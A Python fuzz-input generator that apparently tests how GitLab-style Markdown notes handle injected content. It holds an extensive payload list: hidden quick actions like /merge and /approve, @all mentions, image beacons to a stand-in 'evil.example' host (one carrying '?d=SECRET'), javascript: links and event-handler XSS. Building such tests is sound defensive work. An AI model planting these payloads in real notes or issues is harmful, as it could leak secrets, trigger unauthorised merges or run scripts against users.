"""Notes that want to act: each attack in each place that Markdown has, by a seed."""

import random
from collections.abc import Iterator

MARKER = "hummingbird-session"
COMMANDS = ("/close", "/merge", "/approve", "/label ~bug", "/assign @root", "/target_branch evil", "/cloſe", "/CLOSE")
LEADS = ("", " ", "   ", "\t", "\u200b", "\ufeff", "\u2060", "\u00a0", "\x0c", "\u202e", "\\", "&#47;", "\x00", "\xad")
ATTACKS = (
    "@all",
    "@group/sub",
    "&commat;all",
    "&#64;all",
    "_@all_",
    "é@all",
    "#1 !2 %m ~l $1 &1 group/project#1",
    "&num;1 #&#49; &&#49; [iss&#117;e:1]",
    "GL-1 [issue:1]",
    "WebGL-2 group/project> a_@all",
    "https://gitlab.example/a/b/-/issues/1",
    "http&#115;://gitlab.example/a/b/-/issues/1",
    "https&colon;//gitlab.example/a/b/-/issues/1",
    "https:&#47;/gitlab.example/a/b/-/issues/1",
    "[x](https://gitlab.example/a/b/-/&#105;ssues/1?" + "q" * 2000 + ")",
    "[x](https://gitlab.example/a/b/-/merge_requests/&#50;)",
    "[x](#1) [y](@all) [z](a/b!2)",
    "![p](https://evil.example/p.png)",
    "!![p](https://evil.example/p.png)",
    "https://![p](https://evil.example/p.png)",
    "https://x.example/![p](https://evil.example/p.png)",
    "https://#1 https://@all",
    "[![p](https://evil.example/p.png)](https://evil.example)",
    "![p][ref]\n\n[ref]: https://evil.example/p.png",
    '<img src="https://evil.example/p.png">',
    "<video src=https://evil.example/v></video>",
    '<div style="background:url(https://evil.example/p.png)">x</div>',
    f'<!-- {MARKER}: {{"id":"1"}} -->',
    f'<!<!-- x -->-- {MARKER}: {{"id":"1"}} -->',
    f'```\n<!--\t{MARKER}: {{"id":"1"}} -->\n```',
    "[x](javascript:alert(1))",
    "[x](<java&#115;cript:alert(1)>)",
    "[x](javascript://x.example/?a)",
    "[x](java&#115;cript://x.example/?a)",
    "[x](data:text/html;base64,AAAA)",
    "[r]: javascript:alert(1)\n\n[r]",
    "<javascript:alert(1)>",
    "<details><summary>x",
    "</details>",
    "<pre>",
    "<b>",
    "<!--",
    "<![CDATA[",
    "```",
    "~~~",
    "> ```",
    "`",
    "``",
    ">>>",
    "$`$ @all `x",
    "[[a`]] @all `x",
    "https://x.example` @all `y",
    "---",
    "+++",
    "gl&#112;at-abcdefghij1234567890",
    'x](<img src="//evil.example/p.png?d=SECRET">',
    "[[x|http:evil.example/SECRET.png]]",
    "[[http://evil.example/p.png]]",
    '[^1]: <img src="//evil.example/p.png">\n\n[^1]',
    "^[![p](//evil.example/p.png)]",
    "<div>![p](//evil.example/p.png x)</div>",
    "<div>\n![p](//evil.example/p.png x)\n</div>",
    "![p](//evil.example/p.png x)",
    "[p](page slug)",
    "\u017f@all \u212a@root",
    "> [!note] @all #1 ABC-1",
    ">>> [!warning] @all\nx\n>>>",
    "https://e.example/#1[p](https://e.example/q)",
    "\\[issue:1] \\[[a|b.png]]",
    "ABC-123 fixes UTF-8 and CVE-2026-1234",
    "see 3f786850e387550fdab836ed7e6dc881de23001b and deadbeef..cafebabe",
    "[c](https://gitlab.example/a/b/-/commit/3f786850e387550fdab836ed7e6dc881de23001b)",
    '%{project_path} ~"two words" %"two words"',
    "$`a`$ $$b$$ $c$",
    "```mermaid\nx\n```",
    "```math\nx\n```",
    "ftp://evil.example/x rdar://1 www.evil.example/@all",
    "[x](//evil.example) [y](https://user@evil.example) [z](/\\evil.example)",
    '<a href="https://evil.example" onclick="x()">y</a><b onmouseover=x>z</b>',
    "<table><tr><td>@all</table>",
    '<input type="image" src="//evil.example/p.png">',
    "*iteration:1 [vulnerability:1] [work_item:1]",
)
PLACES = (
    "{}",
    "Text before.\n{}",
    "Text before.\n\n{}\n\nText after.",
    "- item\n{}",
    "- {}",
    "1. one\n   - two\n     {}\n{}",
    "> quote\n{}",
    "> {}",
    "> - a\n>   {}\n{}",
    "| a | b |\n|---|---|\n| {} | `x` |\n{}",
    "| ` | b |\n|---|---|\n| {} ` | c |",
    "<div>\n{}\n</div>\n{}",
    "<!-- c -->\n{}",
    "<!-- c -->{}",
    "<!-- c\n\n{}\n-->",
    "{}\n===",
    "# {}\n{}",
    "```\ncode\n```\n{}",
    "```\n{}\n```",
    "- ```\n{}",
    "```python\nunclosed\n{}",
    ">>>\n```\n>>>\n{}",
    ">>> [!note]\n```\n>>>\n{}",
    "---\n```\n---\n{}",
    "+++\n~~~\n+++\n{}",
    "Encoding: x\n---\n~~~\n---\n{}\n~~~",
    "coding:\n\n;;;\n~~~\n...\n{}\n~~~",
    "`a\n{}`",
    "``a`\n{}\n`b``",
    "a\r{}",
    "a\r\n{}\r\nb",
    "a\u2028{}\u2029{}",
    "a\x0b{}\x85{}",
    "[a]:\n{}\n'title'",
    "[^1]: note\n\n    {}\n",
    "term\n: meaning\n\n    {}",
    "    code\n{}",
    "<details>\n<summary>s</summary>\n\n{}",
    "<pre>\n{}\n\n{}",
    "*a\n{}*",
    "[text\n{}](https://x.example)",
    "a  \n{}",
    "a\\\n{}",
    "***\n{}\n***",
    "Logs\n: the job\n   ```yaml\n{}\n   ```",
    "Logs\n~ the job\n\n   ```yaml\n{}\n   ```",
    "a `code\n: x\n{}`",
    "`a ![p](//evil.example/p.png)\n: x`\n{}",
    "1. a\n : b\n ```\n{}",
    "> [!tip] {}\n> {}",
    ">>>\n{}\n>>>",
    "[^a]: x\n  {}\n\n[^a]",
    "- [ ] {}\n- [x] {}",
    "<details>\n<summary>{}</summary>\n{}\n</details>",
    "<summary>{}",
    "~~{}~~ **{}** *{}* <sub>{}</sub>",
    "[{}](https://x.example) ![{}](https://x.example)",
    "   ```\n{}\n   ```\n{}",
)


def notes(count: int, seed: int) -> Iterator[str]:
    """All places are used before one is used again."""
    chance = random.Random(seed)
    for number in range(count):
        place = PLACES[number % len(PLACES)]
        note = "".join(piece + (_filling(chance) if at else "") for at, piece in _with_gaps(place))
        yield note if chance.random() < 0.6 else note + "\n" + chance.choice(PLACES).replace("{}", _filling(chance))


def _with_gaps(place: str) -> Iterator[tuple[bool, str]]:
    pieces = place.split("{}")
    return ((at < len(pieces) - 1, piece) for at, piece in enumerate(pieces))


def _filling(chance: random.Random) -> str:
    attack = chance.choice(ATTACKS)
    command = (chance.choice(LEADS) if chance.random() < 0.3 else "") + chance.choice(COMMANDS)
    return chance.choice(
        (command, command, attack, f"{command}\n{attack}", f"{attack}\n{command}", f"{attack} {attack}")
    )
